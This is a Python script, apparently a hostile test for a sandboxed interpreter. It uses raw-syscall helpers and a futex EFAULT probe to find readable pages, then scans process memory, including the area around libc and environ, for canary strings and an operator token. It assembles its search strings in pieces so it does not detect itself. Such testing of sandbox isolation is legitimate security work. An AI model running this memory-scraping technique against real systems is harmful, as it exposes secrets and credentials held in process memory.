# Looks for canaries in all memory that this process can read, with what e2e/hostile/native.py has: a futex call with
# nothing to wait for tells which pages can be read; from everything known, the search goes both ways over gaps of up to
# 64 MiB.
import re

sys = __import__.__globals__["sys"]
PAGE, GAP = 4096, 64 << 20
zero = np.zeros(2, np.int64).__array_interface__["data"][0]
EFAULT = 14


def readable(page):
    # FUTEX_WAIT_PRIVATE for no time at all, which always ends in an error: EFAULT is for a page that isn't there.
    raw(202, page, 128, 0, zero)
    return errno() != EFAULT


own = "-".join(["CAN" + "ary".upper(), "own", "is", "end"])
held = (own * 3).encode()
pattern = re.compile("".join(["CAN", "ARY-"]).encode() + rb"[a-z0-9-]{1,80}?-end")
token = re.compile(b"-".join([b"operator", b"of", b"the"]) + rb"-[a-z]{4}-suite")
seeds = [
    id(own), id(sys), id(np), id(canvas), id(object()), id(type(canvas)), zero, np.zeros(10**6).__array_interface__["data"][0],
    libc.base, interpreter.base, word(libc.symbol("environ")), word(word(id(np.dot) + 16) + 8),
]
seen, found, total = set(), set(), 0


def walk(start, step):
    global total
    page, missing, tail = start, 0, b""
    while missing < GAP and 0 < page < (1 << 47):
        if page in seen:
            return
        seen.add(page)
        if readable(page):
            missing = 0
            block = peek(page, PAGE)
            text = tail + block if step > 0 else block + tail
            for hit in pattern.findall(text) + token.findall(text):
                found.add(hit)
            tail = block[-200:] if step > 0 else block[:200]
            total += PAGE
        else:
            tail, missing = b"", missing + PAGE
        page += step


for seed in seeds:
    start = seed & ~(PAGE - 1)
    walk(start, PAGE)
    walk(start - PAGE, -PAGE)
for thing in sys.modules["gc"].get_objects():
    if isinstance(thing, (str, bytes)) and "CAN" + "ARY-" in str(thing):
        found.add(repr(thing).encode())
print("\n".join(sorted(hit.decode("ascii", "replace") for hit in found)))
print(total >> 20, "MiB searched")
